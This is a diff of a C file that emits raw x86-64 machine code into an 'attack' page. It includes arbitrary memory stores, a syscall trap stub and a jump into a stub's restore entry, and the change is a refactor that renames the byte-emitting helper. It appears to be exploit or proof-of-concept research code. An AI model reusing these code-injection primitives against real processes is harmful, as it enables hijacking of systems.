@@ -26,18 +26,18 @@ _Static_assert(sizeof(struct stub_stamps) <= COUNT_AT, "no room for the count of
 
 #define HONEST_CALL 39 /* getpid; any number, as it traps */
 
-static void add(struct attack *attack, const void *code, uint32_t bytes)
+void attack_code(struct attack *attack, const void *code, uint32_t bytes)
 {
 	memcpy(attack->page + attack->at, code, bytes);
 	attack->at += bytes;
 }
 
-#define ADD(attack, code) add(attack, code, sizeof(code) - 1)
+#define ADD(attack, code) attack_code(attack, code, sizeof(code) - 1)
 
 static void add64(struct attack *attack, const char opcode[2], uint64_t value)
 {
-	add(attack, opcode, 2);
-	add(attack, &value, sizeof(value));
+	attack_code(attack, opcode, 2);
+	attack_code(attack, &value, sizeof(value));
 }
 
 /* Back to FIRST. */
@@ -46,7 +46,7 @@ static void go_back(struct attack *attack)
 	int32_t distance = (int32_t)FIRST - (int32_t)(attack->at + 5);
 
 	ADD(attack, "\xe9");
-	add(attack, &distance, sizeof(distance));
+	attack_code(attack, &distance, sizeof(distance));
 }
 
 void attack_begin(struct attack *attack, const struct physmem *physmem)
@@ -60,7 +60,7 @@ void attack_begin(struct attack *attack, const struct physmem *physmem)
 	ADD(attack, "\x83\x3b\x01");	  /* cmpl $1, (%rbx) */
 	ADD(attack, "\x74\x0c");	  /* je over the next three */
 	ADD(attack, "\xb8");		  /* movl $HONEST_CALL, %eax */
-	add(attack, &call, sizeof(call));
+	attack_code(attack, &call, sizeof(call));
 	ADD(attack, "\x0f\x05"); /* syscall */
 	go_back(attack);
 	ADD(attack, "\xc7\x03\x00\x00\x00\x00"); /* movl $0, (%rbx) */
@@ -70,7 +70,7 @@ void attack_store32(struct attack *attack, uint64_t address, uint32_t value)
 {
 	add64(attack, "\x48\xb8", address); /* movabs $address, %rax */
 	ADD(attack, "\xc7\x00");	    /* movl $value, (%rax) */
-	add(attack, &value, sizeof(value));
+	attack_code(attack, &value, sizeof(value));
 }
 
 void attack_store64(struct attack *attack, uint64_t address, uint64_t value)
@@ -180,11 +180,6 @@ void attack_set_mask(struct attack *attack, const struct stub_shared *shared, ui
 	add64(attack, "\x48\xbc", mcontext - FRAME_UP);		   /* movabs, to rsp */
 	add64(attack, "\x48\xbb", STUB_CODE + STUB_ENTRY_RESTORE); /* and to rbx */
 	ADD(attack, "\xff\xe3");				   /* jmp *%rbx */
-}
-
-void attack_code(struct attack *attack, const void *code, uint32_t bytes)
-{
-	add(attack, code, bytes);
 }
 
 void attack_end(struct attack *attack)
